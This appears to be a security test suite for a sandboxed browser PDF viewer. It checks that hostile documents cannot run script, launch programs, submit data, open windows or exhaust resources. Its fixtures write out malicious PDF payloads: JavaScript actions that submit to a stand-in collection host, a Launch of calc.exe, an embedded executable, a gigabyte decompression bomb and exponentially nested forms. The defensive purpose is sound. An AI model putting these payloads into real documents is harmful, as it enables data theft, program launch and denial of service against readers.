import { GB } from '@chairside/protocol'
import { expect, test } from 'vitest'
import { until } from '../world/until.ts'
import { phone, picture, stayed } from './browser.ts'
import { pagesOf, pdfOf, streamOf, swollen, written } from './pdfs.ts'
import { openViewer } from './viewer-page.ts'

test('nothing in a document runs, is launched, sent or opened, and the page around is not touched', async () => {
  const script =
    "app.alert('ran'); this.submitForm('https://collect.example/'); app.launchURL('https://open.example/')"
  const bytes = pdfOf(
    [
      {
        draws: written('Harmless to look at'),
        more: `/AA<</O<</S/JavaScript/JS(${script.replace(/[()\\]/g, '\\$&')})>>>>/Annots[11 0 R 12 0 R 13 0 R]`,
      },
    ],
    {
      root: `/OpenAction 10 0 R/AcroForm<</Fields[13 0 R]>>/Names<</EmbeddedFiles<</Names[(run.exe)14 0 R]>>>>`,
      objects: [
        `<</S/JavaScript/JS(${script.replace(/[()\\]/g, '\\$&')})/Next<</S/Launch/F(calc.exe)>>>>`,
        '<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(https://open.example/)>>>>',
        '<</Type/Annot/Subtype/Link/Rect[0 400 595 842]/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>>>',
        '<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(send)/Rect[60 600 300 640]/A<</S/SubmitForm/F(https://collect.example/)>>/AA<</PV 10 0 R>>>>',
        '<</Type/Filespec/F(run.exe)/EF<</F 15 0 R>>>>',
        streamOf('MZ'),
      ],
    },
  )
  const viewer = await openViewer(bytes)
  const { page, frame, person } = viewer
  const [asked, opened, dialogs]: [string[], string[], string[]] = [[], [], []]
  page.on('request', (request) => asked.push(request.url()))
  page.context().on('page', (other) => opened.push(other.url()))
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await frame.getByText('Harmless to look at').click()
  await frame.locator('.page').click({ position: { x: 90, y: 300 } })
  await expect.poll(() => viewer.fired()).toEqual(['viewer-shown'])
  expect(await frame.locator('a, input, iframe, object, embed').count()).toBe(0)
  expect(asked.filter((url) => !/^(blob:|http:\/\/(127\.0\.0\.1|localhost):)/.test(url))).toEqual([])
  expect({ opened, dialogs }).toEqual({ opened: [], dialogs: [] })
  expect(await stayed(person)).toBe(true)
})

test('the frame reaches neither its server’s addresses, nor the page around, nor any storage', async () => {
  const { page, frame } = await openViewer(pagesOf('Text'))
  await frame.getByText('Text').waitFor()
  const inner = page.frames().find((one) => one.url().endsWith('/viewer'))
  const said = await inner?.evaluate(async () => {
    const tried = async (act: () => unknown): Promise<string> => {
      try {
        await act()
        return 'done'
      } catch {
        return 'refused'
      }
    }
    return {
      origin: self.origin,
      page: await tried(() => parent.document.body),
      storage: await tried(() => localStorage.length),
      cookies: await tried(() => document.cookie),
      databases: await tried(() => indexedDB.open('any')),
      other: await tried(() => fetch('https://collect.example/')),
      server: await tried(async () => {
        const answer = await fetch('/v1/links/look', { method: 'POST', body: '{"secret":"any"}' })
        if (!answer.ok) throw new Error('refused')
      }),
      script: await tried(() => new Function('return 1')()),
      windows: (await tried(() => window.open('https://open.example/') ?? Promise.reject())) as string,
    }
  })
  expect(said).toEqual({
    origin: 'null',
    ...Object.fromEntries(
      ['page', 'storage', 'cookies', 'databases', 'other', 'server', 'script', 'windows'].map((name) => [
        name,
        'refused',
      ]),
    ),
  })
})

test('a page that swells to a gigabyte says within some seconds that it cannot be shown; the other pages can', async () => {
  const bytes = pdfOf([{ draws: written('First') }, swollen(GB), { draws: written('Third') }])
  expect(bytes.length).toBeLessThan(100_000)
  const { person, frame, page } = await openViewer(bytes)
  await frame.getByText('First').waitFor()
  await person.button('Next page').click()
  await frame.getByText('Page 2 cannot be shown here.').waitFor()
  await picture(person, 'viewer-undrawn')
  await frame.getByRole('button', { name: 'Next page' }).click()
  await frame.getByText('Third').waitFor()
  expect(await page.evaluate(() => 1 + 1)).toBe(2)
  expect(await stayed(person)).toBe(true)
})

test('forms within forms, a thousand million of them, end as one page that cannot be shown', async () => {
  const levels = 9
  const objects = Array.from({ length: levels }, (_, level) =>
    level === levels - 1
      ? streamOf('0 0 9 9 re f', '/Type/XObject/Subtype/Form/BBox[0 0 595 842]')
      : streamOf(
          '/X Do '.repeat(10),
          `/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X ${11 + level} 0 R>>>>`,
        ),
  )
  const bytes = pdfOf(
    [
      { draws: written('First') },
      { draws: '/X Do', more: '/Resources<</XObject<</X 10 0 R>>>>' },
      { draws: written('Third') },
    ],
    { objects },
  )
  const { person, frame } = await openViewer(bytes)
  await frame.getByText('First').waitFor()
  await person.button('Next page').click()
  await frame.getByText('Page 2 cannot be shown here.').waitFor()
  await frame.getByRole('button', { name: 'Next page' }).click()
  await frame.getByText('Third').waitFor()
})

test('a document of 10,000 pages is shown, and its last page reached, with a few pages in memory', async () => {
  const bytes = pagesOf(...Array.from({ length: 10_000 }, (_, index) => `This is page ${index + 1}`))
  const { person, frame } = await openViewer(bytes)
  await frame.getByText('This is page 1', { exact: true }).waitFor()
  await frame.locator('#pages').press('End')
  await frame.getByText('This is page 10000').waitFor()
  await person.reads('10,000 of 10,000')
  const count = () => frame.locator('#pages').evaluate((all) => all.querySelectorAll('.page > img').length)
  await expect.poll(count).toBeLessThan(4)
})

test.each([
  ['no document at all', Buffer.from('This is a letter, and no PDF.'.repeat(50))],
  ['a document that is cut off', pagesOf('First', 'Second').subarray(0, 200)],
])('%s says that it cannot be shown, and offers the download', async (_, bytes) => {
  const { person, fired } = await openViewer(bytes)
  await person.reads('This document cannot be shown here.')
  await person.button('Download').first().click()
  await expect.poll(fired).toEqual(['viewer-save'])
  await person.button('Back').click()
  await expect.poll(fired).toEqual(['viewer-save', 'viewer-close'])
})

test('a frame that hangs is taken away: the page says so and goes on', async () => {
  // What a flaw of the drawing code could do at worst.
  const script = `
    port.postMessage({ say: 'opened', pages: 1, outline: [] })
    port.postMessage({ say: 'drawn', page: 1 })
    setTimeout(() => { for (;;); }, 1000)`
  const { person, page } = await openViewer(pagesOf('Text'), {}, { isolated: true, script })
  await person.reads('1 of 1')
  await person.reads('The document stopped here.')
  expect(await page.locator('iframe[sandbox]').count()).toBe(0)
  await person.button('Back').click()
  expect(await stayed(person)).toBe(true)
})

test('a frame that a document has taken over prints nothing unasked, and what it says is shown in bounds', async () => {
  const script = `
    const say = (message) => port.postMessage(message)
    port.onmessage = ({ data }) => {
      if (data.say === 'still-there') say({ say: 'here' })
      if (data.say === 'print') say({ say: 'printed', page: 1, of: 3, picture: new Blob(['any']) })
    }
    for (const junk of [null, 7, 'here', {}, { say: 'at' }, { say: 'found', at: {} }, { say: 'want', begin: -1, end: 'x' }]) say(junk)
    const entry = (place) => ({ place, title: 'Long '.repeat(1000), depth: 1e9 })
    const outline = [null, { place: {}, title: {}, depth: {} }, ...Array.from({ length: 2000 }, (_, place) => entry(place))]
    say({ say: 'opened', pages: 2, outline })
    say({ say: 'opened', pages: 900, outline: [] })
    say({ say: 'at', page: 77, zoom: 1 })
    say({ say: 'drawn', page: 1 })
    for (let page = 1; page <= 2; page += 1) say({ say: 'printed', page, of: 2, picture: new Blob(['any'], { type: 'image/svg+xml' }) })
    say({ say: 'printed', page: 1, of: 1, picture: new Blob(['any']) })`
  const { person, page, fired } = await openViewer(pagesOf('Text'), {}, { ...phone, script })
  await person.reads('2 of 2')
  await expect.poll(fired).toEqual(['viewer-shown'])
  expect(await page.locator('iframe').count()).toBe(1)
  await person.button('More').tap()
  await page.getByRole('menuitem', { name: 'Outline' }).tap()
  const entries = page.locator('.outline-entry')
  expect(await entries.count()).toBeLessThanOrEqual(300)
  expect((await entries.first().innerText()).length).toBeLessThanOrEqual(120)
  expect(await entries.first().getAttribute('class')).toContain('depth-4')
  await person.button('More').tap()
  await page.getByRole('menuitem', { name: 'Print' }).tap()
  await person.reads(/^This document cannot be printed here\./)
  expect(await page.locator('iframe').count()).toBe(1)
  expect(await stayed(person)).toBe(true)
})

test('a frame that a document has taken over saves and prints nothing by itself: the reader is asked', async () => {
  const script = `
    const say = (message) => port.postMessage(message)
    const press = () => { for (let times = 0; times < 50; times += 1) say({ say: 'pressed', what: 'save' }) }
    port.onmessage = ({ data }) => {
      if (data.say === 'still-there') say({ say: 'here' })
    }
    onmessage = () => say({ say: 'pressed', what: 'save' })
    onpointerup = press
    say({ say: 'opened', pages: 1, outline: [] })
    say({ say: 'drawn', page: 1 })`
  const { person, page, frame, fired } = await openViewer(pagesOf('Text'), {}, { ...phone, script })
  await expect.poll(fired).toEqual(['viewer-shown'])
  // What a test asks of a page counts there as a click, unless it is asked so.
  const quietly = await page.context().newCDPSession(page)
  const asked = async (expression: string): Promise<unknown> =>
    (await quietly.send('Runtime.evaluate', { expression, returnByValue: true })).result.value
  const inViewer = "document.querySelector('chairside-viewer').shadowRoot"
  await until('nobody has clicked', async () => !(await asked('navigator.userActivation.isActive')), 10_000)
  await asked(`${inViewer}.querySelector('iframe').contentWindow.postMessage('now', '*')`)
  const question = 'Download this document?'
  await until('the reader is asked', async () =>
    String(await asked(`${inViewer}.textContent`)).includes(question),
  )
  expect(await fired()).toEqual(['viewer-shown'])
  await person.button('Download').tap()
  await person.readsNoMore(question)
  expect(await fired()).toEqual(['viewer-shown', 'viewer-save'])
  await until('the tap is long ago', async () => !(await asked('navigator.userActivation.isActive')), 10_000)
  await asked(`${inViewer}.querySelector('iframe').contentWindow.postMessage('now', '*')`)
  await until('the reader is asked again', async () =>
    String(await asked(`${inViewer}.textContent`)).includes(question),
  )
  await person.button('Not now').tap()
  await person.readsNoMore(question)
  // What the frame says now does not ride on that tap.
  await asked(`${inViewer}.querySelector('iframe').contentWindow.postMessage('now', '*')`)
  await person.reads(question)
  expect(await fired()).toEqual(['viewer-shown', 'viewer-save'])
  await until(
    'this tap is long ago, too',
    async () => !(await asked('navigator.userActivation.isActive')),
    10_000,
  )

  // One tap in the frame is one download.
  await frame.locator('body').tap()
  await expect.poll(fired).toEqual(['viewer-shown', 'viewer-save', 'viewer-save'])
  await person.reads(question)
  expect(await fired()).toEqual(['viewer-shown', 'viewer-save', 'viewer-save'])
  expect(await stayed(person)).toBe(true)
})
